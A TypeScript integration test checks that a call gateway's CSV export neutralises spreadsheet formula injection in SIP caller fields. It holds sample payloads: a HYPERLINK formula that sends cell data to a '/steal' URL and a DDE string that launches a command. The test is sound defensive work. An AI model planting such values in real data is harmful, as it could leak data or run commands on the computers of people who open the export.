import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { startTestGateway, type TestGateway } from './helpers/gateway.js';
import { livekitEventBody, livekitSignature } from './helpers/livekit-webhook.js';

const stack = inject('stack');
let gw: TestGateway;

beforeAll(async () => {
  gw = await startTestGateway();
});
afterAll(async () => {
  await gw?.close();
});

/** RFC 4180 rows: quoted fields may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      endCell();
    } else if (!quoted && c === '\n') {
      endCell();
      rows.push(row);
      row = [];
    } else {
      cell += c;
    }
  }
  if (cell || row.length) {
    endCell();
    rows.push(row);
  }
  return rows;
}

/** A SIP caller joining, as LiveKit SIP reports it: the caller ID and call id are the caller's to pick. */
async function sipCallerJoins(room: string, attributes: Record<string, string>) {
  const body = livekitEventBody('participant_joined', {
    room: { name: room, sid: 'RM_csv' },
    participant: { sid: 'PA_csv', identity: 'sip-caller', kind: 'SIP', attributes },
  });
  const response = await fetch(`${gw.url}/webhooks/livekit`, {
    method: 'POST',
    headers: {
      'content-type': 'application/webhook+json',
      authorization: await livekitSignature(body, stack.apiKey, stack.apiSecret),
    },
    body,
  });
  expect(response.status).toBe(200);
}

describe('CSV export', () => {
  it('neutralises cells a spreadsheet would run as formulas, and keeps E.164 numbers readable', async () => {
    const callerId = '=HYPERLINK("http://127.0.0.1/steal?d="&A1,"Call back")';
    const room = "-2+3+cmd|' /C calc'!A0";
    await sipCallerJoins(room, {
      'sip.phoneNumber': callerId,
      'sip.trunkPhoneNumber': '+4930123456',
      'sip.callID': '@SUM(1+1)',
      'sip.callStatus': 'active',
    });
    const response = await fetch(`${gw.url}/api/calls/export.csv`, {
      headers: { authorization: `Bearer ${gw.adminKey}` },
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
    const [header, ...rows] = parseCsv(await response.text());
    const cells = Object.fromEntries(header!.map((name, i) => [name, rows[0]![i]]));
    expect(rows).toHaveLength(1);
    expect(cells.from_number).toBe(`'${callerId}`);
    expect(cells.room_name).toBe(`'${room}`);
    expect(cells.sip_call_id).toBe("'@SUM(1+1)");
    expect(cells.to_number).toBe('+4930123456');
    // The API itself returns the values as they are: only the spreadsheet export is changed.
    const listed = await gw.request('GET', '/api/calls');
    expect(listed.body.items[0].from_number).toBe(callerId);
  });
});
